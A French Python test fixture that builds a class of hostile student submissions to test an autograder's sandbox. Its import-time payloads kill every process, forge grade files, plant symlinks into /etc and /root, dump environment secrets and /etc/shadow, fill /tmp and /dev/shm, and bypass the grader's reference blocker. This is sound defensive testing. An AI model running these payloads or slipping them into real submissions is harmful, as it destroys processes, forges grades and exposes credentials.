"""Une classe hostile : des équipes honnêtes et, à côté, une équipe par attaque contre le bac à sable.

Explication : chaque équipe hostile est la copie juste (``copies/tp1_yum``) dont
le ``__init__.py`` lance une attaque dès l'import (dans le processus de l'API
comme dans le programme en console), sans casser le reste : seule l'attaque
la distingue des équipes honnêtes. Les attaques sont celles de l'issue du bac
à sable : un tueur laissé derrière elle, un faussaire tardif du carnet, des
liens vers ``/etc``, l'environnement de l'enseignant, la référence empruntée,
``/tmp`` et ``/dev/shm`` remplis, une socket Unix, ``kill(-1)``, le dossier
des verrous, un programme inactif (Python et Java), et, dans le dossier de la
classe, un lien vers ``/etc``. ``ecrire_la_classe`` écrit la classe ;
``cibles`` dit ce qui ne doit exister nulle part après la correction.

Auteurs : l'équipe du projet « Dés ».
Version : 1.0.0
"""

import os
import shutil
import textwrap
from pathlib import Path

from yum.correction import DOSSIER_DU_PROJET

# Les copies des tests.
COPIES = Path(__file__).resolve().parent / "copies"
# La fin du nom d'un dossier de remise de Moodle.
MOODLE = "_assignsubmission_file_"
# Le secret que l'environnement de l'enseignant porte pendant la correction (il ne doit paraître nulle part).
SECRET = "jeton-moodle-de-l-enseignant-4f2a"
# Les équipes honnêtes : leur note doit rester celle de la copie juste.
HONNETES = ("Ana Honnête_2001", "Béa Honnête_2002")
# L'équipe Java honnête.
JAVA_HONNETE = "Carl Java_2003"


def attaques(marque, socket_unix):
    """Retourne les attaques : nom d'équipe → code Python lancé à l'import de son paquet.

    ``marque`` : un mot propre à cette classe, dans le nom des fichiers que les attaques tentent
    d'écrire ; ``socket_unix`` : le chemin d'une socket Unix de la machine, ouverte à tous.
    """
    return {
        "Tom Tueur_2101": """
            import os, signal, time
            # Un tueur détaché, qui survit à son programme et tue tout ce qu'il peut pendant 30 s.
            if os.fork() == 0:
                os.setsid()
                if os.fork() == 0:
                    fin = time.time() + 30
                    while time.time() < fin:
                        try:
                            os.kill(-1, signal.SIGKILL)
                        except OSError:
                            pass
                        time.sleep(0.05)
                    os._exit(0)
                os._exit(0)
            os.wait()
        """,
        "Fred Faussaire_2102": """
            import os, time
            # Un faussaire tardif : détaché, il attend un peu, puis réécrit tout notes.csv qu'il trouve.
            if os.fork() == 0:
                os.setsid()
                if os.fork() == 0:
                    time.sleep(0.5)
                    for racine in ("/", os.path.expanduser("~"), os.getcwd() + "/.."):
                        for dossier, _, fichiers in os.walk(racine):
                            if "notes.csv" in fichiers:
                                try:
                                    open(os.path.join(dossier, "notes.csv"), "a").write("forgé,40\\n")
                                except OSError:
                                    pass
                    os._exit(0)
                os._exit(0)
            os.wait()
        """,
        "Léa Lien_2103": f"""
            import os
            # Des liens posés là où le correcteur écrit et lit : vers /etc, vers un fichier de root.
            for lien, cible in (("cible", "/etc"), ("sortie.txt", "/etc/{marque}-sortie"),
                                ("journal.txt", "/root/.bashrc")):
                try:
                    os.symlink(cible, lien)
                except OSError:
                    pass
            for chemin in ("cible/{marque}-lien", "sortie.txt", "/etc/{marque}-direct"):
                try:
                    open(chemin, "a").write("écrit par l'équipe")
                except OSError:
                    pass
        """,
        "Éva Espionne_2104": """
            import os
            # Ce que l'enseignant a dans son environnement, et ce que root garde pour lui.
            print("ENVIRONNEMENT", dict(os.environ))
            for secret in ("/etc/shadow", "/root/.bash_history", "/proc/1/environ"):
                try:
                    print("LU", secret, open(secret, errors="replace").read()[:200])
                except OSError:
                    pass
        """,
        "Rémi Remplisseur_2105": f"""
            # 1,1 Gio dans /dev/shm et /tmp, laissés pour l'équipe suivante.
            for dossier in ("/dev/shm", "/tmp", "/var/tmp"):
                try:
                    with open(dossier + "/{marque}-plein", "wb") as fichier:
                        for _ in range(1100):
                            fichier.write(b"x" * 1024 ** 2)
                except OSError:
                    pass
        """,
        "Sam Socket_2106": f"""
            import socket
            # Une socket Unix de la machine (une base de données, D-Bus, X11).
            try:
                connexion = socket.socket(socket.AF_UNIX)
                connexion.connect({socket_unix!r})
                connexion.sendall(b"secret de l'equipe")
            except OSError:
                pass
        """,
        "Kim Kill_2107": """
            import os, signal
            # kill(-1) : tout ce que l'utilisateur peut tuer, le correcteur compris.
            try:
                os.kill(-1, signal.SIGKILL)
            except OSError:
                pass
        """,
        "Vic Verrou_2108": f"""
            import os
            # Le dossier des verrous des boîtes d'avant : des liens pour que root y vide un fichier.
            for dossier in ("/run/lock/des-bac-a-sable-boites", "/tmp/des-bac-a-sable-boites"):
                try:
                    os.makedirs(dossier, exist_ok=True)
                    os.symlink("/etc/{marque}-verrou", dossier + "/1.verrou")
                except OSError:
                    pass
        """,
    }


def emprunteur():
    """Retourne les fichiers d'un paquet sans code de jeu qui emprunte la référence installée."""
    emprunt = f"""
        import sys
        sys.meta_path[:] = [chercheur for chercheur in sys.meta_path
                            if type(chercheur).__name__ != "BarrageDeLaReference"]
        sys.path.append({str(DOSSIER_DU_PROJET)!r})
    """
    return {"__init__.py": emprunt,
            "regles.py": "from yum.regles import *\nfrom yum.regles import calculer_coups_possibles\n",
            "des.py": "from yum.des import *\n", "saisie.py": "from yum.saisie import *\n",
            "__main__.py": emprunt + "\nfrom yum.__main__ import principal\nprincipal()\n"}


# Le programme Java d'une équipe qui se fige (deux fils en interblocage) avant sa première question.
JAVA_INACTIF = """
public class Yum {
    public static void main(String[] args) throws Exception {
        final Object a = new Object();
        final Object b = new Object();
        Thread autre = new Thread(() -> { synchronized (b) { pause(); synchronized (a) { } } });
        autre.start();
        synchronized (a) { pause(); synchronized (b) { } }
    }

    static void pause() {
        try { Thread.sleep(200); } catch (InterruptedException e) { }
    }
}
"""


def paquet_python(remises, equipe, avant=None, fichiers=None, nom="yum"):
    """Écrit la remise Python ``equipe``, paquet ``nom`` (la copie juste, ``avant`` ajouté en tête de son
    ``__init__.py``, ou les ``fichiers`` donnés) ; retourne son paquet."""
    paquet = remises / f"{equipe}{MOODLE}" / "TP1" / nom
    if fichiers is not None:
        paquet.mkdir(parents=True)
        for nom, texte in fichiers.items():
            (paquet / nom).write_text(textwrap.dedent(texte), encoding="utf-8")
        return paquet
    shutil.copytree(COPIES / "tp1_yum", paquet, ignore=shutil.ignore_patterns("__pycache__"))
    if avant is not None:
        init = paquet / "__init__.py"
        init.write_text(textwrap.dedent(avant) + "\n" + init.read_text(encoding="utf-8"), encoding="utf-8")
    return paquet


def ecrire_la_classe(remises, marque, socket_unix):
    """Écrit la classe hostile dans ``remises`` (comme Moodle la donne) ; ne retourne rien."""
    remises.mkdir(parents=True)
    for equipe in HONNETES:
        paquet_python(remises, equipe)
    shutil.copytree(COPIES / "classe" / "java_juste", remises / f"{JAVA_HONNETE}{MOODLE}" / "src")
    for equipe, code in attaques(marque, socket_unix).items():
        paquet_python(remises, equipe, avant=code)
    # Son paquet ne s'appelle pas yum : « import yum » chercherait la référence.
    paquet_python(remises, "Ugo Emprunteur_2109", fichiers=emprunteur(), nom="tp1")
    inactif = paquet_python(remises, "Ines Inactive_2110")
    (inactif / "__main__.py").write_text("import time\ntime.sleep(10 ** 6)\n", encoding="utf-8")
    java = remises / f"Jules Fige_2111{MOODLE}" / "src"
    java.mkdir(parents=True)
    (java / "Yum.java").write_text(JAVA_INACTIF, encoding="utf-8")
    # Dans le dossier de la classe, comme unzip ou git les laissent : un lien vers /etc à côté d'une
    # archive du même nom, et une remise dont un fichier est un lien vers un fichier de root.
    (remises / f"Zoé Lien_2112{MOODLE}").symlink_to("/etc")
    paquet = paquet_python(remises, "Yan Lien_2113")
    (paquet / "secret.py").symlink_to("/etc/shadow")


def cibles(marque):
    """Retourne les chemins qu'aucune attaque ne doit avoir créés sur la machine."""
    return [f"/etc/{marque}-sortie", f"/etc/{marque}-lien", f"/etc/{marque}-direct", f"/etc/{marque}-verrou",
            f"/dev/shm/{marque}-plein", f"/tmp/{marque}-plein", f"/var/tmp/{marque}-plein"]


def liens_de_verrous():
    """Retourne les liens posés dans les dossiers des verrous d'avant (root les aurait suivis)."""
    return [chemin for chemin in ("/run/lock/des-bac-a-sable-boites/1.verrou",
                                  "/tmp/des-bac-a-sable-boites/1.verrou") if os.path.islink(chemin)]


def dossier_lisible_par_tous(dossier):
    """Rend ``dossier`` lisible et traversable par tous (pour une correction par un autre utilisateur)."""
    for parent, sous_dossiers, fichiers in os.walk(dossier):
        os.chmod(parent, 0o755)
        for nom in fichiers:
            chemin = os.path.join(parent, nom)
            if not os.path.islink(chemin):
                os.chmod(chemin, 0o644)
